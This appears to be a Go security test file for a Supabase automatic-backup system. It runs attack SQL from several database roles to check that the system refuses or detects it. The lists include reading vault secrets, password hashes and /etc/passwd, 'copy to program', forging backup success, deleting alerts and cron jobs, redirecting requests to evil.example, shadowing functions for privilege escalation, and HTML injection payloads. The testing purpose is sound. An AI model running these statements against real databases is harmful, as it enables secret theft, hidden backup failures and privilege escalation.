@@ -1,0 +1,292 @@
+package attacks_test
+
+import (
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync"
+	"time"
+)
+
+// Statements that attackers with SQL run. Those that a role may not run are refused.
+var (
+	looksForToken = []string{
+		`select to_jsonb(s)::text from vault.decrypted_secrets s`,
+		`select to_jsonb(s)::text from vault.secrets s`,
+		`select auto_backup.token('{backup}')`,
+		`select encode(k, 'escape') from unnest(auto_backup.keys('{backup}', now())) k`,
+		`select to_jsonb(q)::text || convert_from(q.body, 'UTF8') from net.http_request_queue q`,
+		`select to_jsonb(p)::text from net._http_response p`,
+		`select query from pg_stat_activity`,
+		`select coalesce(pg_get_functiondef(p.oid), '') from pg_proc p where p.pronamespace = 'auto_backup'::regnamespace`,
+		`select to_jsonb(s)::text from auto_backup.settings s`,
+		`select to_jsonb(w)::text from auto_backup.watchdog w`,
+		`select to_jsonb(l)::text from public.system_logs l`,
+		`select command from cron.job`,
+	}
+	claimsSuccess = []string{
+		`insert into public.system_logs (type, message, context) values ('auto_backup', 'm', '{"run_id":"{run}","backup_id":"{old}","total_records":4242}')`,
+		`insert into public.system_logs (type, message, context) select 'auto_backup', 'm', jsonb_build_object('run_id', '{run}', 'backup_id', '{old}', 'signature', auto_backup.token_digest('{backup}'))`,
+		`insert into public.system_logs (type, message, context) select type, 'm', context || '{"run_id":"{run}","revision":99}' from public.system_logs where type = 'auto_backup'`,
+		`update public.backup_logs set success = true, records_affected = 4242, details = 'Backup automático ID: {old} - Total: 4242 registros' where id = '{run}'`,
+		`update auto_backup.runs set state = 'succeeded', finished_at = now() where run_id = '{run}'`,
+		`select auto_backup.close('{run}', '{"state":"succeeded","finished_at":"2026-01-01"}', now())`,
+	}
+	// The request's ID can be guessed: they are counted.
+	answersForFunction = []string{
+		`insert into net._http_response (id, status_code, content_type, headers, content, timed_out, created)
+			select n, 200, 'application/json', '{"x-backup-function":"1.0.0"}', '{"success":true,"run_id":"{run}","backup_id":"{old}","total_records":1}', false, now()
+			from generate_series(1, (select last_value from net.http_request_queue_id_seq)) n`,
+	}
+	claimsAlert = []string{
+		`insert into public.system_logs (type, message, context) values ('auto_backup_error', 'm', '{"run_id":"{run}","code":"backup_failed","error":"motivo","revision":99,"alert":{"state":"delivered","emails_sent":2,"emails_failed":0}}')`,
+		`update public.system_logs set context = context || '{"alert":{"state":"delivered"}}' where type = 'auto_backup_error'`,
+		`update public.backup_logs set details = 'Backup automático falhou: nada (alerta enviado)' where id = '{run}'`,
+		`delete from public.system_logs where type = 'auto_backup_error'`,
+		`update auto_backup.incidents set alert_state = 'delivered'`,
+		`delete from auto_backup.incidents`,
+		`update cron.job set active = false`,
+		`delete from cron.job`,
+		`select cron.unschedule('auto-backup-watchdog')`,
+		`select pg_terminate_backend(pid) from pg_stat_activity where usename = 'postgres'`,
+		`alter role postgres set statement_timeout = 1`,
+	}
+	startsRuns = []string{
+		`select auto_backup.dispatch('{backup}', 'daily', '2026-01-01')`,
+		`select auto_backup.run_now('{backup}')`,
+		`select auto_backup.start('{backup}', 'manual', 'manual', now(), 1)`,
+		`select auto_backup.post('{backup}', '{}', 1000)`,
+		`select auto_backup.probe('{backup}')`,
+		`select auto_backup.watch('{backup}', '2026-01-01')`,
+		`select auto_backup.hmac('a', 'b')`,
+	}
+	leadsElsewhere = []string{
+		`update auto_backup.settings set document = jsonb_set(document, '{function,url}', '"https://evil.example"')`,
+		`select auto_backup.configure('{backup}', '{}', '', '[]', '[]')`,
+		`select cron.schedule('auto-backup-daily', '0 3 * * *', 'select 1')`,
+		`update cron.job set command = 'select 1'`,
+		`create or replace function auto_backup.post(backup text, body jsonb, timeout_milliseconds integer) returns bigint language sql as 'select 1::bigint'`,
+		`create or replace function net.http_post(url text, body jsonb default '{}', params jsonb default '{}', headers jsonb default '{}', timeout_milliseconds int default 5000) returns bigint language sql as 'select 1::bigint'`,
+		`alter database postgres set search_path = public`,
+		`alter role postgres set search_path = public`,
+	}
+	shadows = []string{
+		`create function public.now() returns timestamptz language plpgsql as $$ begin create table public.owned (); return '2036-01-01'; end $$`,
+		`create function public.sha256(bytea) returns bytea language plpgsql as $$ begin create table public.owned (); return ''; end $$`,
+		`create function public.same(text, text) returns boolean language plpgsql as $$ begin create table public.owned (); return true; end $$`,
+		`create operator public.= (leftarg = text, rightarg = text, function = public.same)`,
+		`create table public.runs (run_id uuid, state text)`,
+		`create table public.settings (backup text, document jsonb)`,
+		`create temp table settings (backup text, document jsonb)`,
+		`create function pg_temp.now() returns timestamptz language plpgsql as $$ begin create table public.owned (); return '2036-01-01'; end $$`,
+		`create schema auto_backup_lock`,
+		`create function auto_backup.judge() returns void language sql as ''`,
+		`grant postgres to current_user`,
+		`alter function auto_backup.watch(text, timestamptz) owner to current_user`,
+	}
+	looksForSecrets = []string{
+		`select auto_backup.token_digest('stripe')`, `select auto_backup.key_digest('stripe')`, `select auto_backup.token('stripe')`,
+		`select encode(k, 'escape') from unnest(auto_backup.keys('stripe', now())) k`,
+		`select to_jsonb(s)::text from vault.decrypted_secrets s`, `select to_jsonb(s)::text from vault.secrets s`,
+		`select vault.create_secret('x', 'stripe/alert-key')`, `select auto_backup.drift()::text`, `select auto_backup.catalog('vault')::text`,
+		`select rolpassword from pg_authid`, `select setting from pg_settings`, `select pg_read_file('/etc/passwd')`, `copy (select 1) to program 'id'`,
+	}
+)
+
+// overSQL are the attacks with SQL: of roles with a session, and of access tokens.
+func overSQL() (list []attack) {
+	type row struct {
+		attacker string
+		by       caller
+		// vault says that Supabase lets the role read the vault, so no secret is safe from it.
+		vault bool
+	}
+	for _, r := range []row{
+		{plainSQL, sqlRole(outsider), false},
+		{authenticatedSQL, sqlRole("authenticated"), false},
+		{serviceRoleSQL, sqlRole("service_role"), true},
+		{readOnlySQL, sqlRole("supabase_read_only_user"), false},
+		{readOnlyToken, overAPI{func(s *site) string { return s.stack.ReadOnlyAccessToken }}, false},
+	} {
+		role, session := r.by.(sqlRole)
+		add := func(aim, what string, run func(*site) error, numbers ...int) {
+			list = append(list, attack{attacker: r.attacker, aim: aim, what: what, run: run, numbers: numbers})
+		}
+		when := func(condition bool, number int) []int {
+			if condition {
+				return []int{number}
+			}
+			return nil
+		}
+		readOnly := r.attacker == readOnlySQL
+		plain := r.attacker == plainSQL
+
+		if !r.vault {
+			add(readToken, "Reads the vault, pg_net's queue while a request is in it, the responses, the logs, other sessions' statements and the closed schema.", func(s *site) error {
+				s.stopNet()
+				run := s.dispatch()
+				if n := s.text(`select count(*)::text from net.http_request_queue`); n != "1" {
+					s.failf("%s requests are queued", n)
+				}
+				seen := r.by.try(s, s.fill("", looksForToken...)...)
+				if !strings.Contains(seen, "sent_at") {
+					s.failf("the attacker does not see the queue")
+				}
+				s.awaitEnd(run)
+				return s.leaks(seen)
+			}, when(readOnly, 4)...)
+			add(readSecrets, "Asks for digests and values of the vault's secrets, for passwords and for files of the server.", func(s *site) error {
+				return s.leaks(r.by.try(s, s.fill("", looksForSecrets...)...))
+			}, when(readOnly, 11)...)
+		}
+		add(forge, "Of a run that died, writes a success to both logs, to pg_net's responses and to the run history.", func(s *site) error {
+			s.log("auto_backup", map[string]any{"run_id": "00000000-0000-4000-8000-000000000000", "backup_id": oldBackup, "total_records": 1})
+			run := s.claimed()
+			r.by.try(s, s.fill(run, append(claimsSuccess, answersForFunction...)...)...)
+			return s.noticed(run)
+		}, when(plain, 6)...)
+		add(suppress, "Of a failure, writes that the alert was delivered, deletes the rows and the queued alert, stops the jobs, and holds the advisory locks that the watchdog once took.", func(s *site) error {
+			run := s.failed()
+			if session {
+				conn := s.session(role)
+				defer conn.Release()
+				defer func() { _, _ = conn.Exec(s.ctx, `reset all; reset role; select pg_advisory_unlock_all()`) }()
+				_, err := conn.Exec(s.ctx, `select pg_advisory_lock(hashtextextended(k, 0))
+					from unnest(array['auto_backup', 'auto_backup.watch `+string(name)+`', 'auto_backup.run_now `+string(name)+`']) k`)
+				s.must(err)
+			}
+			before := s.installed()
+			r.by.try(s, s.fill(run, claimsAlert...)...)
+			s.stopNet()
+			s.watch(20 * time.Minute)
+			if n := s.text(`select count(*)::text from net.http_request_queue`); n != "1" {
+				return fmt.Errorf("%s alerts are queued", n)
+			}
+			r.by.try(s, `delete from net.http_request_queue`)
+
+			return all(s.noticed(run), s.unchanged(before))
+		}, when(readOnly, 7)...)
+		add(double, "Calls the functions that start a run, puts a captured request into pg_net's queue again, and deletes the request of a run from it.", func(s *site) error {
+			s.backupRuns()
+			before := s.stored()
+			request := s.requests()[0]
+			r.by.try(s, s.fill("", startsRuns...)...)
+			r.by.try(s, fmt.Sprintf(`insert into net.http_request_queue (method, url, headers, body, timeout_milliseconds)
+				select 'POST', %s, jsonb_build_object('Content-Type', 'application/json', 'X-Backup-Signature', %s), convert_to(b, 'UTF8'), 5000
+				from unnest(array[%s, replace(%[3]s, '"attempt": 1', '"attempt": 2')]) b`, quoted(s.stack.ProjectURL+function), quoted(request.signature), quoted(request.body)))
+			r.by.try(s, `select net.wake()`)
+			s.settle()
+			if after := s.stored(); after != before {
+				return fmt.Errorf("there are %s stored backups, before %s", after, before)
+			}
+			if n := s.text(`select count(*)::text from auto_backup.runs`); n != "1" {
+				return fmt.Errorf("there are %s runs", n)
+			}
+			s.day++
+			s.stopNet()
+			run := s.dispatch()
+			r.by.try(s, `delete from net.http_request_queue`)
+			return s.noticed(run)
+		})
+		add(redirect, "Changes the settings, the jobs and the functions, and the URL of a queued request to a server that answers with a success.", func(s *site) error {
+			evil := newEvil()
+			defer evil.Close()
+			before := s.installed()
+			r.by.try(s, s.fill("", leadsElsewhere...)...)
+			s.stopNet()
+			run := s.dispatch()
+			r.by.try(s, `update net.http_request_queue set url = `+quoted(evil.URL))
+			s.settle()
+			if !strings.Contains(evil.seen(), run) {
+				s.failf("the other server was not called: %s", evil.seen())
+			}
+			return all(s.noticed(run), s.leaks(evil.seen()), s.unchanged(before))
+		})
+		add(runCode, "Creates functions, operators, types and tables with the names of those that the jobs use, in `public` and as temporary ones, and puts SQL into every text that the watchdog reads.", func(s *site) error {
+			s.undo = append(s.undo, func() {
+				s.sql(`drop owned by ` + outsider + ` cascade; grant create, usage on schema public to ` + outsider)
+			})
+			before := s.installed()
+			run := s.claimed()
+			statements := s.fill(run, shadows...)
+			for _, text := range hostile {
+				statements = append(statements,
+					`insert into public.system_logs (type, message, context) select 'auto_backup_error', 'm', jsonb_build_object('run_id', '`+run+`', 'code', t, 'error', t, 'signature', t, 'revision', t) from (select `+quoted(text)+`::text) as x (t)`,
+					`insert into net._http_response (id, status_code, headers, content, timed_out, error_msg, created) select last_value, 500, jsonb_build_object('x-backup-function', t), t, false, t, now() from net.http_request_queue_id_seq, (select `+quoted(text)+`::text) as x (t)`)
+			}
+			r.by.try(s, statements...)
+			return all(s.noticed(run), s.unchanged(before), s.nothingRan())
+		})
+		add(exhaust, "Writes rows and responses of megabytes about a run in progress, and locks what it may lock in the closed schema.", func(s *site) error {
+			run := s.claimed()
+			large := []string{
+				`insert into public.system_logs (type, message, context) select 'auto_backup', 'm', jsonb_build_object('run_id', '{run}', 'signature', repeat('a', 64), 'error', repeat('x', 4000000)) from generate_series(1, 3)`,
+				`insert into net._http_response (id, status_code, headers, content, timed_out, created)
+					select last_value, 200, jsonb_build_object('x', repeat('x', 4000000)), '{"run_id":"other","x":"' || repeat('x', 4000000) || '"}', false, now() from net.http_request_queue_id_seq`,
+				`update public.backup_logs set details = repeat('x', 4000000) where id = '{run}'`,
+				`begin; lock table auto_backup.settings, auto_backup.runs; rollback`,
+				`begin; select from auto_backup.settings for update; rollback`,
+				`rollback`,
+			}
+			r.by.try(s, s.fill(run, large...)...)
+			return all(s.readsLittle(), s.noticed(run))
+		})
+		add(spoof, "Writes 50 failures of one run with HTML and invisible characters, and 50 open alerts.", func(s *site) error {
+			run := s.claimed()
+			r.by.try(s, s.fill(run,
+				`insert into public.system_logs (type, message, context) select 'auto_backup_error', 'm', jsonb_build_object('run_id', '{run}', 'code', '<img src=x onerror=' || n || '>', 'error', U&'<b>\202E\200B</b>', 'revision', n) from generate_series(1, 50) n`,
+				`update public.backup_logs set details = 'Backup automático falhou: <img src=x>' where id = '{run}'`,
+				`insert into net._http_response (id, status_code, headers, content, timed_out, created)
+					select last_value, 500, '{"x-backup-function":"1.0.0"}', '{"success":false,"run_id":"{run}","code":"<img>","error":"<b>"}', false, now() from net.http_request_queue_id_seq`,
+				`insert into auto_backup.incidents (backup, kind, due_at, code, opened_at, alert_state) select '{backup}', 'overdue', now() - n * interval '1 day', '<b>', now(), 'waiting' from generate_series(1, 50) n`,
+			)...)
+			s.watch(20 * time.Minute)
+			return all(s.noticed(run), s.plainMails())
+		})
+		add(mislead, "Writes successes, failures and responses, also of unknown runs and of the year 2036, while the backup is healthy.", func(s *site) error {
+			run := s.backupRuns()
+			r.by.try(s, s.fill(run,
+				`insert into public.system_logs (type, message, context) select t, 'm', jsonb_build_object('run_id', i, 'code', 'backup_failed', 'backup_id', '{old}') from unnest(array['auto_backup', 'auto_backup_error']) t, unnest(array['{run}', '00000000-0000-4000-8000-000000000000', '', 'x']) i`,
+				`insert into public.system_logs (type, message, context, created_at) values ('auto_backup_error', 'm', '{"run_id":"{run}"}', '2036-01-01')`,
+				`insert into net._http_response (id, status_code, headers, content, timed_out, created) select last_value, 500, '{}', '{"success":false,"run_id":"{run}"}', false, now() from net.http_request_queue_id_seq`,
+				`insert into auto_backup.runs (backup, schedule, trigger, due_at, attempt, state, requested_at) values ('{backup}', 'daily', 'manual', '2036-01-01', 1, 'requested', '2036-01-01')`,
+				`create or replace function auto_backup.outcomes() returns void language sql as ''`,
+				`insert into cron.job_run_details (jobid, runid, status, return_message) select 1, 99999, 'failed', 'x'`,
+			)...)
+			return s.staysHealthy(run)
+		})
+	}
+	return list
+}
+
+// evil is a server that answers every request with a success.
+type evil struct {
+	*httptest.Server
+	mutex sync.Mutex
+	text  strings.Builder
+}
+
+func newEvil() *evil {
+	e := &evil{}
+	e.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		var body map[string]any
+		_ = json.NewDecoder(r.Body).Decode(&body)
+		e.mutex.Lock()
+		_, _ = fmt.Fprint(&e.text, r.Header, body, "\n")
+		e.mutex.Unlock()
+		w.Header().Set("X-Backup-Function", "1.0.0")
+		_, _ = fmt.Fprintf(w, `{"success":true,"run_id":%q,"backup_id":%q,"total_records":1,"emails_sent":1,"emails_failed":0}`, body["run_id"], oldBackup)
+	}))
+	return e
+}
+
+// seen is what the server was sent.
+func (e *evil) seen() string {
+	e.mutex.Lock()
+	defer e.mutex.Unlock()
+	return e.text.String()
+}
+
+func quoted(text string) string { return "'" + strings.ReplaceAll(text, "'", "''") + "'" }
